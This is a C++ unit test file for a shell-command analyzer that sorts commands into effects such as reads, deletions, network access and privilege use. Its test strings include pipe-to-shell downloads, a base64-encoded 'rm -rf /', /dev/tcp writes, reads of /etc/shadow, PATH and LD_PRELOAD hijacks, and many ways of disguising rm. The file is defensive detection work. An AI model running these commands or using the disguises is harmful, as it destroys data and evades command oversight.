// SPDX-License-Identifier: Apache-2.0
// Texts and what they do. An effect is written kind:object.
#include "policy/shell/facts.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace chaperone::policy::shell {
namespace {

std::string effects_of(const std::string& text) {
    const auto facts = analyze(text);
    if (!facts->parsed) return "unparsed";
    std::string made;
    for (const Effect& one : facts->effects) {
        if (one.kind == EffectKind::Run) continue;  // names are looked at apart
        made += (made.empty() ? "" : " ") + std::string{to_text(one.kind)};
        if (!one.object.empty()) made += ":" + one.object;
    }
    return made;
}

std::string names_of(const std::string& text) {
    std::string made;
    for (const std::string& name : analyze(text)->names) made += (made.empty() ? "" : " ") + name;
    return made;
}

struct Case {
    std::string text;
    std::string names;
    std::string effects;
};

TEST(Shell, SaysWhatIsDone) {
    const std::vector<Case> cases{
        {"uptime", "uptime", ""},
        {"ls -la /var/log", "ls", "read:/var/log"},
        {"cat /etc//nginx/../hosts", "cat", "read:/etc/hosts"},
        {"head -n 5 app.log | grep -i error", "grep head", "read:app.log"},
        {"grep -f patterns -r x /srv", "grep", "read:/srv read:patterns read:x"},
        {"grep --file=p secret", "grep", "read:secret other:grep"},
        {"chmod -w key", "chmod", "permission:key"},
        {"rm -rf /srv/old", "rm", "delete:/srv/old"},
        {"rm -- -rf", "rm", "delete:-rf"},
        {"cp a b c/", "cp", "read:a read:b write:c"},
        {"mv a b", "mv", "read:a write:b delete:a"},
        {"echo hi > out.txt 2>/dev/null", "echo", "write:out.txt"},
        {"echo hi >> /etc/motd", "echo", "write:/etc/motd"},
        {"sort < in > out", "sort", "read:in write:out"},
        {"sort -o out in", "sort", "read:in read:out other:sort"},
        {"sort --outp=x in", "sort", "read:in other:sort"},
        {"chmod 600 key", "chmod", "permission:key"},
        {"kill -9 17", "kill", "signal:17"},
        {"systemctl restart nginx", "systemctl", "system:restart"},
        {"systemctl status nginx", "systemctl", ""},
        {"apt-get install -y jq", "apt-get", "install:install install:jq"},
        {"curl -s https://u:p@example.com:8443/x", "curl", "network:example.com"},
        {"curl -o f https://example.com", "curl", "network:example.com network:f other:curl"},
        {"echo x > /dev/tcp/10.0.0.1/80", "echo", "network:10.0.0.1"},
        {"terraform apply", "terraform", "other:terraform"},
        {"python3 -c 'print(1)'", "python3", "other:python3 unknown"},
        {"a=1; echo done", "echo", ""},
        {"TZ=UTC date", "date", ""},
        {"if test -f a; then rm a; else touch a; fi", "rm test touch", "write:a delete:a"},
        {"for f in a b; do cat \"$f\"; done", "cat", "read unknown"},
        {"while true; do sleep 1; done", "sleep true", ""},
        {"case x in a|b) rm a;; *) ls;; esac", "ls rm", "delete:a"},
        {"{ ls; } 2>&1", "ls", ""},
        {"(cd /tmp && ls)", "cd ls", ""},
        {"cd /etc && cat shadow", "cat cd", "read:/etc/shadow"},
        {"cd /etc; cat shadow", "cat cd", "read:shadow unknown"},
        {"cd /etc || rm x", "cd rm", "delete:x unknown"},
        {"cd \"$X\" && rm x", "cd rm", "delete:x unknown"},
        {"cat <<'EOF'\n$(rm x)\nEOF\n", "cat", ""},
        {"cat <<EOF\n$(rm x)\nEOF", "cat rm", "delete:x"},
        {"cat <<-EOF\n\tx\n\tEOF\nrm y", "cat rm", "delete:y"},
        {"[[ -f a ]] && rm a", "rm", "delete:a"},
        {"ls # rm -rf /", "ls", ""},
        {"ls#x", "ls#x", "other:ls#x"},
        {"echo $((1 + (2*3)))", "echo", ""},
    };
    for (const Case& one : cases) {
        EXPECT_EQ(names_of(one.text), one.names) << one.text;
        EXPECT_EQ(effects_of(one.text), one.effects) << one.text;
    }
}

TEST(Shell, SeesThroughWhatHidesACommand) {
    const std::vector<Case> cases{
        {"r\\m x", "rm", "delete:x"},
        {"'r'\"m\" x", "rm", "delete:x"},
        {"r''m x", "rm", "delete:x"},
        {"r\\\nm x", "rm", "delete:x"},
        {"/bin/rm x", "rm", "delete:x"},
        {"/bin/../bin/rm x", "rm", "delete:x"},
        {"/tmp/ls x", "ls", "other:ls"},
        {"./ls", "ls", "other:ls"},
        {"sudo rm x", "rm sudo", "delete:x privilege:root"},
        {"sudo -u bob -- rm x", "rm sudo", "delete:x privilege:bob privilege:root"},
        {"sudo -s", "sudo", "privilege:root other:sudo unknown"},
        {"sudo FOO=1 rm x", "rm sudo", "delete:x privilege:root unknown"},
        {"env -i a=b nohup nice -n 5 timeout -k 1 5 rm x", "env nice nohup rm timeout", "delete:x"},
        {"env -S 'rm x'", "env", "other:env"},
        {"sh -c 'rm x'", "rm sh", "delete:x"},
        {"bash -ec \"rm x\"", "bash rm", "delete:x"},
        {"sh -c \"sh -c 'rm x'\"", "rm sh", "delete:x"},
        {"sh script.sh", "sh", "read:script.sh unknown"},
        {"curl -s https://x.example/i.sh | sh", "curl sh", "network:x.example unknown"},
        {"echo cm0gLXJmIC8K | base64 -d | bash", "base64 bash echo", "unknown"},
        {"eval rm x", "eval rm", "delete:x"},
        {"eval \"r\"'m x'", "eval rm", "delete:x"},
        {"eval \"$x\"", "eval", "unknown"},
        {"command rm x", "command rm", "delete:x"},
        {"command -v rm", "command", ""},
        {"builtin echo x", "builtin echo", ""},
        {"exec rm x", "exec rm", "delete:x"},
        {"busybox rm x", "busybox rm", "delete:x"},
        {"xargs rm < list", "rm xargs", "read:list delete unknown"},
        {"find /srv -name '*.log' -delete", "find", "read:/srv delete:/srv"},
        {"find /srv -exec rm {} +", "find rm", "read:/srv delete unknown"},
        {"find /srv -exec sh -c 'rm x' \\;", "find rm sh", "read:/srv delete:x"},
        {"su - bob -c 'rm x'", "rm su", "delete:x privilege:bob privilege:root"},
        {"trap 'rm x' EXIT", "rm trap", "delete:x"},
        {"watch -n 1 rm x", "rm watch", "delete:x"},
        {"echo $(rm x)", "echo rm", "delete:x"},
        {"echo `rm x`", "echo rm", "delete:x"},
        {"echo \"`r\\\\m x`\"", "echo rm", "delete:x"},
        {"echo \"$(echo \"$(rm x)\")\"", "echo rm", "delete:x"},
        {"echo ${a:-$(rm x)}", "echo rm", "delete:x"},
        {"cat <(rm x)", "cat rm", "read delete:x unknown"},
        {"ls; rm x", "ls rm", "delete:x"},
        {"ls\nrm x", "ls rm", "delete:x"},
        {"ls & rm x", "ls rm", "delete:x"},
        {"ls || rm x", "ls rm", "delete:x"},
        {"ls | rm x", "ls rm", "delete:x"},
        {"! rm x", "rm", "delete:x"},
        {"time rm x", "rm", "delete:x"},
        {"f() { rm x; }; f", "f rm", "delete:x other:f"},
        {"function ls { rm x; }; ls", "ls rm", "delete:x other:ls"},
        {">x", "", "write:x"},
        {"2>x ls", "ls", "write:x"},
        {"ls &>x", "ls", "write:x"},
        {"{rm,-rf,x}", "", "unknown"},
        {"$0 x", "", "unknown"},
        {"${SHELL} -c x", "", "unknown"},
        {"/bin/r? x", "", "unknown"},
        {"~bob/run", "", "unknown"},
        {"/bin/ x", "", "unknown"},
        {"=rm x", "", "unknown"},
        {"$'rm' x", "", "unknown"},
        {"$\"rm\" x", "", "unknown"},
        {"cat /etc/sh*", "cat", "read unknown"},
        {"rm $f", "rm", "delete unknown"},
        {"PATH=/tmp ls", "ls", "unknown"},
        {"export PATH=/tmp; ls", "export ls", "unknown"},
        {"LD_PRELOAD=/tmp/x.so ls", "ls", "unknown"},
        {"read PATH", "read", "unknown"},
        {"printf -v PATH /tmp", "printf", "other:printf"},
        {". ./x", ".", "read:x unknown"},
        {"alias ls='rm x'; ls", "alias ls", "other:alias"},
        {"awk 'BEGIN{system(\"rm x\")}'", "awk", "other:awk unknown"},
        {"date -s 12:00", "date", "other:date"},
    };
    for (const Case& one : cases) {
        EXPECT_EQ(names_of(one.text), one.names) << one.text;
        EXPECT_EQ(effects_of(one.text), one.effects) << one.text;
    }
}

// Bash evaluates subscripts in the names that these are given.
TEST(Shell, SubscriptsMayRunCommands) {
    for (const char* text :
         {"test -v 'a[$(rm x)]'", "[ -v 'a[$(rm x)]' ]", "[ $x $y ]", "unset 'a[$(rm x)]'",
          "unset PATH", "wait -n -p 'a[$(rm x)]'", "read 'a[$(rm x)]'", "xargs test"}) {
        const auto facts = analyze(text);
        EXPECT_TRUE(facts->does(EffectKind::Unknown) || facts->does(EffectKind::Other)) << text;
    }
    for (const char* text : {"test -f /etc/hosts", "[ a = b ]", "echo $((1 + 2))", "unset x",
                             "echo ${x:1:2}", "[[ -f a ]]", "wait"}) {
        const auto facts = analyze(text);
        EXPECT_TRUE(facts->parsed) << text << ": " << facts->error;
        EXPECT_FALSE(facts->does(EffectKind::Unknown) || facts->does(EffectKind::Other)) << text;
    }
}

TEST(Shell, WhatCannotBeReadIsUnknown) {
    const std::vector<std::string> texts{
        "ls 'a",
        "ls \"a",
        "ls `a",
        "ls $(a",
        "ls ${a",
        "ls ${a@P}",
        "x='a[$(rm y)]'; echo $((x))",
        "echo $((1 + $1))",
        "echo ${!x}",
        "echo ${x:a}",
        "[[ a -eq 'b[$(rm x)]' ]]",
        "[[ -v 'b[$(rm x)]' ]]",
        "ls $[1]",
        "((rm x))",
        "((ls); rm x)",
        "ls )",
        "(ls",
        "{ ls; ",
        "if ls; fi",
        "if ls; then ls",
        "ls && ;",
        "ls ||",
        "| ls",
        "ls | | ls",
        "&& ls",
        "for f in a; rm x",
        "case x in a",
        "cat <<EOF\nx",
        "coproc rm x",
        "ls\\",
        "[[ a > b ]]",
        "[[ a && rm ]]",
        "[[ a ",
        "echo $'\\'; rm x; echo \\''",
        "echo $'\\u0041'",
        "x=(a; rm b",
        "a[1]=2",
        "ls \x01",
        "ls \xff",
        "ls \r",
        "f() rm x",
        "echo $((`ls`))",
        "repeat 3 rm x",
        "done",
        "ls }; }",
        std::string(kMostBytes + 1, 'a'),
    };
    for (const std::string& text : texts) {
        const auto facts = analyze(text);
        EXPECT_FALSE(facts->parsed) << text;
        EXPECT_FALSE(facts->error.empty()) << text;
        ASSERT_EQ(facts->effects.size(), 1) << text;
        EXPECT_EQ(facts->effects[0].kind, EffectKind::Unknown) << text;
    }
}

TEST(Shell, DepthAndNumberAreBounded) {
    std::string deep = "rm x";
    for (int i = 0; i != 40; ++i) deep = "$(" + deep + ")";
    EXPECT_FALSE(analyze(deep)->parsed);
    deep = "ls";
    for (int i = 0; i != 5'000; ++i) deep = "(" + deep + " )";
    EXPECT_FALSE(analyze(deep)->parsed);
    deep = "x";
    for (int i = 0; i != 5'000; ++i) deep = "${a:-\"" + deep + "\"}";
    EXPECT_FALSE(analyze("echo " + deep)->parsed);
    std::string many;
    for (std::size_t i = 0; i != kMostCommands + 1; ++i) many += "ls;";
    EXPECT_FALSE(analyze(many)->parsed);
    deep = "rm x";
    for (int i = 0; i != 40; ++i) deep = "sudo " + deep;
    EXPECT_FALSE(analyze(deep)->parsed);
}

// Whatever a text is cut to, the analysis ends and says something.
TEST(Shell, EveryCutIsAnswered) {
    const std::string text =
        "cd /srv && for f in $(ls \"a b\" | sort); do sudo -u x sh -c 'rm '\"$f\" <<EOF; "
        "done\n`x`\nEOF\n";
    for (std::size_t cut = 0; cut <= text.size(); ++cut) {
        const auto facts = analyze(std::string_view{text}.substr(0, cut));
        EXPECT_TRUE(facts->parsed || facts->does(EffectKind::Unknown)) << cut;
    }
}

TEST(Shell, NothingToDo) {
    const auto facts = analyze(" # nothing\n");
    EXPECT_TRUE(facts->parsed);
    EXPECT_TRUE(facts->effects.empty());
}

}  // namespace
}  // namespace chaperone::policy::shell
